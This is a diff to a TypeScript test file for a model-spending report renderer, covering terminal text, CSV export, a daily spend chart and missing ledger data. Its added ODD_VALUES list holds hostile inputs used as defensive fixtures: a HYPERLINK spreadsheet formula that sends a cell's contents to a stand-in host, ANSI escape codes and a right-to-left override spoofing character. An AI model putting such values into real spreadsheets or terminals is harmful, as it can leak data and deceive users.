@@ -50,7 +50,7 @@ describe("a report on a terminal", () => {
         reroutes: 1,
         trail: [trailEntry({ call: "0", outcome: "unfit" }), trailEntry({ call: "1", costNanoUsd: 50_000_000, latencyMs: 4_000 })],
       }),
-      failed(1, { trail: [trailEntry({ call: "2", outcome: "uncertain" })] }),
+      failed(1, { trail: [trailEntry({ call: "2", outcome: "uncertain" }), trailEntry({ call: "3", outcome: "unfit", costNanoUsd: 0 })] }),
     ];
     const small = await reportOn(results, [], ["tag:team"]);
     expect(renderReportText({ ...small, divisions: small.divisions.slice(2) }, { title: "Report on batch b", baseline: "openai/gpt-5" }))
@@ -61,22 +61,22 @@ describe("a report on a terminal", () => {
           answered                  1  50.0 %
           failed                    1  50.0 %
           reroutes                  1
-          calls                     3  3 of models without a price, booked at nothing
-          tokens in               300
-          tokens out               60
-          checks passed        50.0 %  1 of 2 answers that came
+          calls                     4  1 of models without a price, booked at nothing
+          tokens in               400
+          tokens out               80
+          checks passed        33.3 %  1 of 3 answers that came
           latency               4.0 s  p95 4.0 s, p99 4.0 s
           cost                $0.0525  $0.0525 per answered job
           openai/gpt-5 alone  $0.0020  $0.0505 dearer
 
           spent on      cost   share  calls
           answers    $0.0500  95.3 %      1  calls whose answers are the results
-          failures   $0.0012   2.4 %      1  calls that led to no answer
+          failures   $0.0012   2.4 %      2  calls that led to no answer
           uncertain  $0.0012   2.4 %      1  calls that were cut off, at their estimates
 
           tag:team  jobs  answered  reroutes  calls  tokens     cost  per answer   wasted  checks    p50    p95    p99     saved
           x            1         1         1      2     240  $0.0512     $0.0512  $0.0012  50.0 %  4.0 s  4.0 s  4.0 s  -$0.0492
-          –            1         0         0      1     120  $0.0012           –  $0.0012       –      –      –      –  -$0.0012
+          –            1         0         0      2     240  $0.0012           –  $0.0012   0.0 %      –      –      –  -$0.0012
 
           Assumes that openai/gpt-5 had answered every answered job with its first call, using as many
           tokens of each kind as the call that did answer; no failures, checks or judging on its side, all
@@ -88,6 +88,52 @@ describe("a report on a terminal", () => {
     const text = renderReportText(asked, NAMES);
     for (const team of ["search", "support", "growth"]) expect(text).toMatch(new RegExp(`classify +${team} `));
     expect(text).not.toMatch(/NaN|undefined|Infinity/);
+  });
+});
+
+/** What people and programs put into tags. */
+const ODD_VALUES = [
+  '=HYPERLINK("http://x/?"&A1)',
+  "+1+1",
+  "-5",
+  "",
+  "–",
+  '""',
+  '"–"',
+  " x",
+  "a\nb\u001b[31mred",
+  "\u202Egnp.x",
+  "a\ud800",
+  'plain, "b"',
+];
+
+async function reportOnTags(values: readonly (string | undefined)[]): Promise<SpendingReport> {
+  const results = values.map((team, row) =>
+    answered(row, { ...(team === undefined ? {} : { tags: { team } }), trail: [trailEntry({ call: String(row) })] }),
+  );
+  const made = await reportOn(results, [], ["tag:team"]);
+  return { ...made, divisions: made.divisions.slice(2) };
+}
+
+describe("values from outside", () => {
+  it("stand in a text in lines of their own, each unlike the others, and move no cursor", async () => {
+    const text = renderReportText(await reportOnTags([...ODD_VALUES, undefined]), { title: "t" });
+    expect(text).not.toMatch(/[^\P{Cc}\n]|[\p{Surrogate}\u202E]/u);
+    const lines = text
+      .slice(text.indexOf("tag:team"))
+      .split("\n")
+      .slice(1, ODD_VALUES.length + 2);
+    const shown = lines.map((line) => line.slice(0, line.search(/ {2,}1 {2,}1 /)).trim());
+    expect(new Set(shown).size).toBe(ODD_VALUES.length + 1);
+    expect(shown).toEqual(expect.arrayContaining(["–", '"–"', '""', '" x"', '"a\\nb\\u001b[31mred"', '"\\u202egnp.x"', 'plain, "b"']));
+  });
+
+  it("are told apart in CSV as well, and none is a formula", async () => {
+    const { divisions } = await reportOnTags([...ODD_VALUES, undefined]);
+    const cells = (parse(renderReportCsv(divisions[0]!), { columns: true }) as Record<string, string>[]).map((line) => line["tag:team"]!);
+    expect(new Set(cells).size).toBe(ODD_VALUES.length + 1);
+    expect(cells.filter((cell) => /^[=+@]|^-(?!5$)/.test(cell))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining(["", '""', "–", "-5", "'+1+1", "a\nb\u001b[31mred"]));
   });
 });
 
@@ -163,6 +209,46 @@ describe("a report as a page", () => {
       expect(drawn.match(/<figure/g)?.length ?? 0).toBe(results === free ? 0 : results === many ? 4 : 3);
     }
     expect(renderReportPage(await reportOn(many), { title: "t", subtitle: "s" })).toContain("48 others");
+  });
+});
+
+describe("spend by day", () => {
+  it("says which days it draws, where there are more than fit", async () => {
+    const onDay = (row: number, model: `${string}/${string}`) =>
+      answered(row, { model, trail: [trailEntry({ call: String(row), model, startedAt: Date.UTC(2026, 0, 1 + row) })] });
+    const chart = async (days: number) => {
+      const results = [onDay(0, "m/first"), ...Array.from({ length: days - 1 }, (_, i) => onDay(i + 1, "m/later"))];
+      return (
+        /<figure id="by-day">([\s\S]*?)<\/figure>/.exec(renderReportPage(await reportOn(results), { title: "t", subtitle: "" }))?.[1] ?? ""
+      );
+    };
+    const whole = await chart(400);
+    expect(whole).toContain("<h2>Spend by day</h2>");
+    expect(whole).toContain("from 2026-01-01 to 2027-02-04");
+    expect(whole).toContain("m/first");
+    const cut = await chart(401);
+    expect(cut).toContain("<h2>Spend by day, the last 400 days</h2>");
+    expect(cut).toContain("from 2026-01-02 to 2027-02-05");
+    expect(cut).not.toContain("m/first");
+    expect(cut.match(/<rect [^>]*height="[\d.]+" fill="var\(--s\d\)"><title>/g)).toHaveLength(400);
+  });
+});
+
+describe("what is gone", () => {
+  it("is said on the terminal and on the page", async () => {
+    const results = [answered(0), answered(1, { trail: [trailEntry({ call: "1" })] })];
+    const gone = await createSpendingReport({ read: () => streamOf(results), ledger: () => streamOf([]) }, ["b"], { by: PAGE_DIVISIONS });
+    const words = "2 answers are there whose calls the ledger no longer has";
+    expect(renderReportText(gone, { title: "t" })).toContain(words);
+    expect(renderReportPage(gone, { title: "t", subtitle: "" })).toContain(words);
+    const entries = results.flatMap((result) => ledgerEntries(result, false));
+    const kept = await createSpendingReport({ read: () => streamOf([]), ledger: () => streamOf(entries) }, ["b"], { by: PAGE_DIVISIONS });
+    expect(renderReportText(kept, { title: "t" })).toMatch(
+      /not divided +\$0\.0025 +100\.0 % +2 {2}answered calls of rows that have no result here/,
+    );
+    expect(renderReportPage(kept, { title: "t", subtitle: "" })).toMatch(/acme\/small: \$0\.0025 not divided/);
+    expect(renderReportText(kept, { title: "t" })).toContain("2 answered calls are of rows without a result");
+    for (const text of [renderReportText(kept, { title: "t" }), renderReportText(report, NAMES)]) expect(text).not.toContain(words);
   });
 });
 
